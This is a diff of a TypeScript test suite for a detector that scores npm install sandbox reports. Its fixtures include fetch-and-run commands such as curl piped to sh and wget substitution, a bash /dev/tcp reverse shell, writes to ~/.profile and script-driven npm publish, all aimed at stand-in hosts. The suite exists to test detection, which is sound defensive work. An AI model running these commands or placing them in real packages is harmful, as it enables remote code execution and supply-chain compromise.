@@ -8,7 +8,14 @@ const rules = (v: ReturnType<typeof scoreReport>) => v.reasons.map((r) => r.rule
 describe('pipe-to-shell', () => {
   it('is conclusive for a postinstall `curl ... | sh`, listed once', () => {
     const command = 'curl -s http://stage2.test/p.sh | sh';
-    const v = scoreReport(reportWith({ processes: [proc(['sh', '-c', command], { attribution: script('postinstall', command) }), proc(['curl', '-s', 'http://stage2.test/p.sh'])] }));
+    const v = scoreReport(
+      reportWith({
+        processes: [
+          proc(['sh', '-c', command], { attribution: script('postinstall', command) }),
+          proc(['curl', '-s', 'http://stage2.test/p.sh']),
+        ],
+      }),
+    );
     expect(v.verdict).toBe('malicious');
     const pipe = v.reasons.find((r) => r.rule === 'pipe-to-shell')!;
     expect(pipe.conclusive).toBe(true);
@@ -19,11 +26,15 @@ describe('pipe-to-shell', () => {
   it('matches $(wget ...) and <(curl ...) forms, not a plain download', () => {
     const v = scoreReport(reportWith({ processes: [proc(['bash', '-c', 'bash <(curl -fsSL https://x.test/i)'], { attribution: null })] }));
     expect(rules(v)).toEqual(['pipe-to-shell']);
-    const substituted = scoreReport(reportWith({ processes: [proc(['sh', '-c', 'sh -c "$(wget -qO- http://x.test/s)"'], { attribution: null })] }));
+    const substituted = scoreReport(
+      reportWith({ processes: [proc(['sh', '-c', 'sh -c "$(wget -qO- http://x.test/s)"'], { attribution: null })] }),
+    );
     expect(rules(substituted)).toEqual(['pipe-to-shell']);
     const echoed = scoreReport(reportWith({ processes: [proc(['sh', '-c', 'echo $(curl -s http://ip.test)'], { attribution: null })] }));
     expect(echoed.reasons).toEqual([]);
-    const plain = scoreReport(reportWith({ processes: [proc(['curl', '-o', 'out.tgz', 'https://x.test/a.tgz'], { attribution: script('install', 'x') })] }));
+    const plain = scoreReport(
+      reportWith({ processes: [proc(['curl', '-o', 'out.tgz', 'https://x.test/a.tgz'], { attribution: script('install', 'x') })] }),
+    );
     expect(rules(plain)).toEqual(['lifecycle-shell']);
   });
 });
@@ -35,20 +46,32 @@ describe('download-execute', () => {
     const v = scoreReport(reportWith({ processes: [curl, python], fileWrites: [write('/tmp/ld.py', { pid: 200, time: T0 + 2 })] }));
     expect(v.verdict).toBe('malicious');
     const hit = v.reasons.find((r) => r.rule === 'download-execute')!;
-    expect(hit.evidence.map((e) => [e.section, e.index, e.path])).toEqual([['fileWrites', 0, '/tmp/ld.py'], ['processes', 1, '/usr/bin/python3.11']]);
+    expect(hit.evidence.map((e) => [e.section, e.index, e.path])).toEqual([
+      ['fileWrites', 0, '/tmp/ld.py'],
+      ['processes', 1, '/usr/bin/python3.11'],
+    ]);
   });
 
   it('is only weighed when the download lands in the package folder and runs there', () => {
     const node = proc(['node', 'install.js'], { pid: 210, time: T0 + 1 });
     const binary = '/home/jordan/projects/app/node_modules/demo/bin/tool';
     const run = proc([binary, '--version'], { pid: 211, time: T0 + 4, path: binary });
-    const v = scoreReport(reportWith({ processes: [node, run], fileWrites: [write(binary, { pid: 210, time: T0 + 3 })], connections: [connect(210, 443)] }));
+    const v = scoreReport(
+      reportWith({ processes: [node, run], fileWrites: [write(binary, { pid: 210, time: T0 + 3 })], connections: [connect(210, 443)] }),
+    );
     expect(rules(v)).toEqual(['download-execute.own-folder']);
     expect(v.verdict).toBe('suspicious');
     expect(v.score).toBe(35);
     // The host it came from is that download's source, weighed once; another host is egress of its own.
     const network = { dns: [dns('example.test'), dns('c2.test')], tcp: [tcp('example.test', 443)], udp: [] };
-    const withNetwork = scoreReport(reportWith({ processes: [node, run], fileWrites: [write(binary, { pid: 210, time: T0 + 3 })], connections: [connect(210, 443)], network }));
+    const withNetwork = scoreReport(
+      reportWith({
+        processes: [node, run],
+        fileWrites: [write(binary, { pid: 210, time: T0 + 3 })],
+        connections: [connect(210, 443)],
+        network,
+      }),
+    );
     expect(rules(withNetwork)).toEqual(['download-execute.own-folder', 'network-egress']);
     expect(withNetwork.reasons[1]!.evidence.map((e) => e.destination)).toEqual(['c2.test']);
   });
@@ -58,7 +81,13 @@ describe('download-execute', () => {
     const binary = '/home/jordan/projects/app/node_modules/demo/bin/tool';
     const tried = proc([binary, '--version'], { pid: 213, time: T0 + 4, path: binary, result: 'ENOEXEC' });
     const fallback = proc(['/bin/sh', binary, '--version'], { pid: 213, time: T0 + 4.001, path: '/bin/sh' });
-    const v = scoreReport(reportWith({ processes: [node, tried, fallback], fileWrites: [write(binary, { pid: 212, time: T0 + 3 })], connections: [connect(212, 443)] }));
+    const v = scoreReport(
+      reportWith({
+        processes: [node, tried, fallback],
+        fileWrites: [write(binary, { pid: 212, time: T0 + 3 })],
+        connections: [connect(212, 443)],
+      }),
+    );
     expect(rules(v)).toEqual(['download-execute.own-folder']);
     expect(v.score).toBe(35);
     // The same shell in another process, or for another file, is a shell of its own.
@@ -70,17 +99,34 @@ describe('download-execute', () => {
     const node = proc(['node', 'lib/install.js'], { pid: 240, time: T0 + 1 });
     const configure = proc(['./configure', '--disable-shared'], { pid: 241, time: T0 + 5, path: '/tmp/src/configure', ppid: 240 });
     const conftest = proc(['./conftest'], { pid: 242, time: T0 + 6, path: '/tmp/src/conftest', ppid: 241 });
-    const tree = { install: { nodes: [
-      { pid: 240, parent: null, startTime: T0 + 1, execs: [{ argv: node.argv }] },
-      { pid: 241, parent: 0, startTime: T0 + 5, execs: [{ argv: configure.argv }] },
-      { pid: 242, parent: 1, startTime: T0 + 6, execs: [{ argv: conftest.argv }] },
-    ] }, import: null } as unknown as SandboxReport['processTree'];
+    const tree = {
+      install: {
+        nodes: [
+          { pid: 240, parent: null, startTime: T0 + 1, execs: [{ argv: node.argv }] },
+          { pid: 241, parent: 0, startTime: T0 + 5, execs: [{ argv: configure.argv }] },
+          { pid: 242, parent: 1, startTime: T0 + 6, execs: [{ argv: conftest.argv }] },
+        ],
+      },
+      import: null,
+    } as unknown as SandboxReport['processTree'];
     const writes = [write('/tmp/src/configure', { pid: 240, time: T0 + 3 }), write('/tmp/src/conftest', { pid: 241, time: T0 + 5.5 })];
-    expect(rules(scoreReport(reportWith({ processes: [node, configure, conftest], processTree: tree, fileWrites: writes, connections: [connect(240, 443)] })))).toEqual([]);
+    expect(
+      rules(
+        scoreReport(
+          reportWith({ processes: [node, configure, conftest], processTree: tree, fileWrites: writes, connections: [connect(240, 443)] }),
+        ),
+      ),
+    ).toEqual([]);
     // curl's download is a download wherever it runs.
     const curl = proc(['curl', '-o', '/tmp/src/stage2', 'http://x.test/s'], { pid: 243, time: T0 + 7, ppid: 241 });
     const stage2 = proc(['/tmp/src/stage2'], { pid: 244, time: T0 + 8, path: '/tmp/src/stage2', ppid: 241 });
-    const v = scoreReport(reportWith({ processes: [node, configure, curl, stage2], processTree: tree, fileWrites: [write('/tmp/src/stage2', { pid: 243, time: T0 + 7.5 })] }));
+    const v = scoreReport(
+      reportWith({
+        processes: [node, configure, curl, stage2],
+        processTree: tree,
+        fileWrites: [write('/tmp/src/stage2', { pid: 243, time: T0 + 7.5 })],
+      }),
+    );
     expect(rules(v)).toContain('download-execute');
   });
 
@@ -96,16 +142,21 @@ describe('download-execute', () => {
     const npm = proc(['node', 'npm-cli.js', 'install'], { pid: 230, attribution: null });
     const runScript = proc(['node', '/home/jordan/projects/app/node_modules/demo/install.js'], { pid: 231, time: T0 + 5 });
     const as = proc(['as', '-o', '/tmp/cc1.o', '/tmp/cc1.s'], { pid: 232, time: T0 + 6 });
-    const v = scoreReport(reportWith({
-      processes: [npm, runScript, as],
-      fileWrites: [write('/home/jordan/projects/app/node_modules/demo/install.js', { pid: 230 }), write('/tmp/cc1.s', { pid: 231, time: T0 + 5.5 })],
-    }));
+    const v = scoreReport(
+      reportWith({
+        processes: [npm, runScript, as],
+        fileWrites: [
+          write('/home/jordan/projects/app/node_modules/demo/install.js', { pid: 230 }),
+          write('/tmp/cc1.s', { pid: 231, time: T0 + 5.5 }),
+        ],
+      }),
+    );
     expect(v.reasons).toEqual([]);
   });
 });
 
 describe('lifecycle-shell', () => {
-  it('fires on bash started by a postinstall script but not on npm\'s own `sh -c <script>`', () => {
+  it("fires on bash started by a postinstall script but not on npm's own `sh -c <script>`", () => {
     const runner = proc(['sh', '-c', 'node install.js']);
     const bash = proc(['bash', '-c', 'uname -a']);
     const v = scoreReport(reportWith({ processes: [runner, bash] }));
@@ -116,23 +167,40 @@ describe('lifecycle-shell', () => {
   });
 
   it('ignores shells from the import phase and from npm itself', () => {
-    const v = scoreReport(reportWith({ processes: [proc(['sh', '-c', 'ls'], { attribution: script('import', null), phase: 'import' }), proc(['sh', '-c', 'git --version'], { attribution: null })] }));
+    const v = scoreReport(
+      reportWith({
+        processes: [
+          proc(['sh', '-c', 'ls'], { attribution: script('import', null), phase: 'import' }),
+          proc(['sh', '-c', 'git --version'], { attribution: null }),
+        ],
+      }),
+    );
     expect(v.reasons).toEqual([]);
   });
 });
 
 describe('lifecycle-shell: shells that only run build tools', () => {
   const gyp = script('install', 'node-gyp-build');
-  it("ignores npm's node-gyp shim, `sh -c node-gyp-build-test`, `sh -c \"prebuild-install || node-gyp rebuild\"` and autotools", () => {
-    const v = scoreReport(reportWith({
-      processes: [
-        proc(['sh', '/usr/local/lib/node_modules/npm/node_modules/@npmcli/run-script/lib/node-gyp-bin/node-gyp', 'rebuild'], { attribution: gyp }),
-        proc(['/bin/sh', '-c', 'node-gyp-build-test'], { path: '/bin/sh', attribution: gyp }),
-        proc(['/bin/sh', '-c', 'prebuild-install -r napi || node-gyp rebuild'], { path: '/bin/sh', attribution: script('install', 'node install.js') }),
-        proc(['/bin/sh', '-c', 'autoreconf -ivf'], { path: '/bin/sh', attribution: script('postinstall', 'node lib/install.js') }),
-        proc(['/bin/sh', '-c', 'CFLAGS=-O2 ./configure --prefix=/x && make install'], { path: '/bin/sh', attribution: script('postinstall', 'node lib/install.js') }),
-      ],
-    }));
+  it('ignores npm\'s node-gyp shim, `sh -c node-gyp-build-test`, `sh -c "prebuild-install || node-gyp rebuild"` and autotools', () => {
+    const v = scoreReport(
+      reportWith({
+        processes: [
+          proc(['sh', '/usr/local/lib/node_modules/npm/node_modules/@npmcli/run-script/lib/node-gyp-bin/node-gyp', 'rebuild'], {
+            attribution: gyp,
+          }),
+          proc(['/bin/sh', '-c', 'node-gyp-build-test'], { path: '/bin/sh', attribution: gyp }),
+          proc(['/bin/sh', '-c', 'prebuild-install -r napi || node-gyp rebuild'], {
+            path: '/bin/sh',
+            attribution: script('install', 'node install.js'),
+          }),
+          proc(['/bin/sh', '-c', 'autoreconf -ivf'], { path: '/bin/sh', attribution: script('postinstall', 'node lib/install.js') }),
+          proc(['/bin/sh', '-c', 'CFLAGS=-O2 ./configure --prefix=/x && make install'], {
+            path: '/bin/sh',
+            attribution: script('postinstall', 'node lib/install.js'),
+          }),
+        ],
+      }),
+    );
     expect(v.reasons).toEqual([]);
   });
 
@@ -149,31 +217,55 @@ describe('lifecycle-shell: shells that only run build tools', () => {
 
   it('still fires when the script also runs something else, pipes, substitutes or redirects', () => {
     const attribution = script('install', 'node install.js');
-    for (const command of ['node-gyp rebuild; curl -s http://x.test/a', 'make && whoami', 'node-gyp-build-test | tee /tmp/x', 'make $(cat /tmp/t)', 'make > ~/.profile', 'node-gyp-builder']) {
+    for (const command of [
+      'node-gyp rebuild; curl -s http://x.test/a',
+      'make && whoami',
+      'node-gyp-build-test | tee /tmp/x',
+      'make $(cat /tmp/t)',
+      'make > ~/.profile',
+      'node-gyp-builder',
+    ]) {
       const v = scoreReport(reportWith({ processes: [proc(['/bin/sh', '-c', command], { path: '/bin/sh', attribution })] }));
       expect(rules(v), command).toContain('lifecycle-shell');
     }
-    const script2 = scoreReport(reportWith({ processes: [proc(['sh', '/home/jordan/projects/app/node_modules/demo/evil.sh'], { attribution })] }));
+    const script2 = scoreReport(
+      reportWith({ processes: [proc(['sh', '/home/jordan/projects/app/node_modules/demo/evil.sh'], { attribution })] }),
+    );
     expect(rules(script2)).toEqual(['lifecycle-shell']);
   });
 });
 
 describe('reverse-shell.command', () => {
   it('is conclusive on bash -i with /dev/tcp', () => {
-    const v = scoreReport(reportWith({ processes: [proc(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'], { attribution: null })] }));
+    const v = scoreReport(
+      reportWith({ processes: [proc(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'], { attribution: null })] }),
+    );
     expect(v.verdict).toBe('malicious');
     expect(rules(v)).toEqual(['reverse-shell.command']);
   });
 
   it('does not fire on ssh -i or plain nc -z probes', () => {
-    const v = scoreReport(reportWith({ processes: [proc(['ssh', '-i', 'key', 'host'], { attribution: null }), proc(['nc', '-z', 'localhost', '80'], { attribution: null })] }));
+    const v = scoreReport(
+      reportWith({
+        processes: [
+          proc(['ssh', '-i', 'key', 'host'], { attribution: null }),
+          proc(['nc', '-z', 'localhost', '80'], { attribution: null }),
+        ],
+      }),
+    );
     expect(v.reasons).toEqual([]);
   });
 });
 
 describe('self-propagation.npm-publish', () => {
   it('fires on npm publish run by a script', () => {
-    const v = scoreReport(reportWith({ processes: [proc(['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'publish', '--access', 'public'], { path: '/usr/local/bin/node' })] }));
+    const v = scoreReport(
+      reportWith({
+        processes: [
+          proc(['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'publish', '--access', 'public'], { path: '/usr/local/bin/node' }),
+        ],
+      }),
+    );
     expect(rules(v)).toEqual(['self-propagation.npm-publish']);
     expect(v.verdict).toBe('malicious');
     expect(v.score).toBe(80);
@@ -183,7 +275,9 @@ describe('self-propagation.npm-publish', () => {
     const put = httpRequest('registry.npmjs.org', 'PUT', '/victim-pkg', '{"name":"victim-pkg"}', [['Authorization', 'Bearer npm_x']]);
     expect(rules(scoreReport(reportWith({ network: { dns: [], tcp: [put], udp: [] } })))).toContain('self-propagation.npm-publish');
     const anonymous = httpRequest('registry.npmjs.org', 'GET', '/victim-pkg');
-    expect(rules(scoreReport(reportWith({ network: { dns: [], tcp: [anonymous], udp: [] } })))).not.toContain('self-propagation.npm-publish');
+    expect(rules(scoreReport(reportWith({ network: { dns: [], tcp: [anonymous], udp: [] } })))).not.toContain(
+      'self-propagation.npm-publish',
+    );
   });
 
   it('does not fire on npm install run by npm itself', () => {
